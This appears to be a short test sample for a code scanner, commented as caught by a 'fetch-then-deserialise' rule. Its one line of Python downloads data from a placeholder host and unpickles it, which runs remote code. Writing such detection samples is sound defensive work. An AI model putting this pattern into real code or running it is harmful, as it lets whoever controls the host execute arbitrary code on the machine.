# evades: caught by execution/fetch-then-deserialise
import pickle, requests
pickle.loads(requests.get("https://code.invalid/x").content)
